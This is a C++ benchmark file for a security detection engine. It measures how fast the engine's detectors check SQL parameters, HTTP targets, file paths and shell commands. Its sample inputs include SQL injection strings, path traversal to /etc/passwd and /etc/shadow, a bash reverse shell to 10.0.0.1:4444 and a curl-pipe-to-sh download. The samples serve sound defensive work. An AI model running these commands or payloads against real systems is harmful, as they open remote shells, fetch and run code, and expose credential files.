// Detection engine benchmarks: ns per string for each detector on mixed attack/benign inputs,
// a whole exec/http event through Engine::inspect, and classify throughput (strings/s).
// Trusted benchmark code; run: build/processor/detect/detect_bench
#include <benchmark/benchmark.h>
#include <capnp/message.h>

#include <cstdlib>
#include <sstream>
#include <string>
#include <vector>

#include "processor/detect/engine.h"

namespace {

using ringward::detect::Engine;
using ringward::detect::Finding;

const Engine& engine() {
  static const Engine e = [] {
    auto r = Engine::load_default();
    if (!r) std::abort();
    return std::move(r).value();
  }();
  return e;
}

const std::vector<std::string> kSql = {
    "' or 1=1--", "select a product", "O'Brien", "1 union select 1,2,3", "hello world",
    "12345", "Rock 'n' Roll", "admin'--", "john@example.com", "price>=100 and price<=200"};
const std::vector<std::string> kTargets = {
    "/api/v1/users?id=5&sort=name", "/static/css/site.css", "/..%2f..%2fetc%2fpasswd",
    "/search?q=select+a+product&page=2", "/download?file=../../etc/passwd",
    "/item/42?ref=home", "/a/../b", "/products?id=1%20union%20select%201"};
const std::vector<std::string> kCommands = {
    "ls -la /home", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "/usr/bin/gcc -O2 -c x.c -o x.o", "sh -c curl -s http://x/i.sh | sh",
    "git log --oneline", "python3 -m http.server 8000"};

template <typename F>
void run(benchmark::State& state, const std::vector<std::string>& inputs, F&& f) {
  std::vector<Finding> out;
  std::size_t i = 0;
  for (auto _ : state) {
    out.clear();
    f(inputs[i], out);
    benchmark::DoNotOptimize(out.data());
    if (++i == inputs.size()) i = 0;
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()));
}

void BM_SqlParameter(benchmark::State& s) {
  run(s, kSql, [](const std::string& v, std::vector<Finding>& o) {
    engine().inspect_sql_parameter(v, o);
  });
}
void BM_HttpTarget(benchmark::State& s) {
  run(s, kTargets, [](const std::string& v, std::vector<Finding>& o) {
    engine().inspect_http_target(v, o);
  });
}
void BM_FilePath(benchmark::State& s) {
  static const std::vector<std::string> paths = {"/usr/lib/x86_64-linux-gnu/libc.so.6",
                                                 "/etc/ld.so.cache", "../../../etc/shadow",
                                                 "/home/u/.config/app/settings.json"};
  run(s, paths, [](const std::string& v, std::vector<Finding>& o) {
    engine().inspect_file_path(v, o);
  });
}
void BM_Command(benchmark::State& s) {
  run(s, kCommands, [](const std::string& v, std::vector<Finding>& o) {
    ringward::detect::CommandInput c;
    c.command_line = v;
    c.filename = "/usr/bin/x";
    c.argv0 = "x";
    c.comm = "x";
    c.parent_comm = "bash";
    engine().inspect_command(c, o);
  });
}
void BM_InspectExecEvent(benchmark::State& state) {
  capnp::MallocMessageBuilder msg;
  auto ev = msg.initRoot<ringward::schema::Event>();
  const std::string comm = "gcc", parent = "make";
  ev.setComm(capnp::Data::Reader(reinterpret_cast<const capnp::byte*>(comm.data()), comm.size()));
  ev.setParentComm(
      capnp::Data::Reader(reinterpret_cast<const capnp::byte*>(parent.data()), parent.size()));
  auto exec = ev.initKind().initProcessExec();
  const std::vector<std::string> argv = {"/usr/bin/gcc", "-O2", "-c", "x.c", "-o", "x.o"};
  exec.setFilename(capnp::Data::Reader(reinterpret_cast<const capnp::byte*>(argv[0].data()),
                                       argv[0].size()));
  auto list = exec.initArgv(static_cast<unsigned>(argv.size()));
  for (unsigned i = 0; i < argv.size(); ++i) {
    list.set(i, capnp::Data::Reader(reinterpret_cast<const capnp::byte*>(argv[i].data()),
                                    argv[i].size()));
  }
  const auto reader = ev.asReader();
  std::vector<Finding> out;
  for (auto _ : state) {
    out.clear();
    engine().inspect(reader, out);
    benchmark::DoNotOptimize(out.data());
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()));
}
void BM_ClassifySqli(benchmark::State& state) {
  std::string text;
  for (int r = 0; r < 100; ++r) {
    for (const auto& s : kSql) text += s + "\n";
  }
  const std::size_t lines = 100 * kSql.size();
  for (auto _ : state) {
    std::istringstream in(text);
    std::ostringstream out;
    ringward::detect::run_classify(engine(), "sqli", in, out);
    benchmark::DoNotOptimize(out.str().size());
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations() * lines));
}

BENCHMARK(BM_SqlParameter);
BENCHMARK(BM_HttpTarget);
BENCHMARK(BM_FilePath);
BENCHMARK(BM_Command);
BENCHMARK(BM_InspectExecEvent);
BENCHMARK(BM_ClassifySqli);

}  // namespace

BENCHMARK_MAIN();
